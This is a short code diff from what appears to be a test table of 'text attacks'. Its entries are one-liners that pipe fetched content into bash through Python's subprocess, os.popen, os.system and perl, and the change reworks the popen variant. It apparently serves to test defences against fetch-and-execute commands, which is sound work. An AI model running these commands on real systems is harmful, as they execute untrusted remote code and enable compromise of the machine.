@@ -65,8 +65,8 @@ const Attack kTextAttacks[] = {
               "/usr/bin/python3 -c '" FETCH "subprocess.run(t.decode(), shell=True)'"),
     ONE_LINER("python and bash's stdin",
               "/usr/bin/python3 -c '" FETCH "subprocess.run([\"bash\"], input=t)'"),
-    ONE_LINER("python and popen",
-              "/usr/bin/python3 -c '" FETCH "os.popen(\"bash\", \"w\").write(t.decode())'"),
+    ONE_LINER("python and popen", "/usr/bin/python3 -c '" FETCH
+                                  "p = os.popen(\"bash\", \"w\"); p.write(t.decode()); p.close()'"),
     ONE_LINER("python from a here document",
               "/usr/bin/python3 - <<'PY'\n" FETCH "os.system(t.decode())\nPY"),
     ONE_LINER("perl and system",
